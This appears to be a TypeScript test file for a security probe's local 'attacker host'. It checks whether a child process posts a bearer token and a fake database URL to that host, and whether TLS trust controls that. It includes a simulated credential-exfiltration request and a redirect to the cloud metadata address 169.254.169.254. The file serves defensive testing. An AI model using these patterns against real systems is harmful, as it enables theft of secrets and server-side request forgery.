import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attackerHostEnv, startAttackerHost, type TAttackerHost } from "./attacker-host";

const run = promisify(execFile);
let attacker: TAttackerHost;

beforeAll(async () => {
  attacker = await startAttackerHost();
});
afterAll(() => attacker.close());

/** A separate Node process posting to the attacker's host, trusting only what its environment says. */
function postFrom(env: Record<string, string>): Promise<string> {
  const script = `
    const r = require("node:https").request(process.argv[1], { method: "POST", headers: { authorization: "Bearer s3cret-token", "content-type": "application/json" } }, (res) => {
      let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => process.stdout.write(res.statusCode + " " + b));
    });
    r.on("error", (e) => process.stdout.write("error " + e.code));
    r.end('{"db":"postgresql://leaked"}');`;
  return run(process.execPath, ["-e", script, `${attacker.url}/v1/collect?x=1`], { env: { PATH: process.env.PATH ?? "", NODE_ENV: "test", ...env } }).then(
    (o) => o.stdout,
  );
}

describe("the security probe's attacker host", () => {
  it("is trusted by a process started with its CA, and records what reached it", async () => {
    expect(await postFrom(attackerHostEnv(attacker))).toBe('200 {"ok":true}');
    expect(attacker.received("s3cret-token")).toHaveLength(1);
    expect(attacker.received("postgresql://leaked")[0]).toMatchObject({ method: "POST", path: "/v1/collect?x=1" });
    expect(attacker.received("not-sent")).toEqual([]);
  });

  it("is refused by a process without the CA, and then records nothing", async () => {
    attacker.clear();
    expect(await postFrom({})).toMatch(/^error (UNABLE_TO_VERIFY_LEAF_SIGNATURE|SELF_SIGNED|DEPTH_ZERO)/);
    expect(attacker.requests).toEqual([]);
  });

  it("answers what it is told to", async () => {
    attacker.answer(() => ({ status: 302, headers: { location: "http://169.254.169.254/" } }));
    expect(await postFrom(attackerHostEnv(attacker))).toBe("302 ");
    attacker.answer(() => ({ status: 200, body: "{}" }));
  });
});
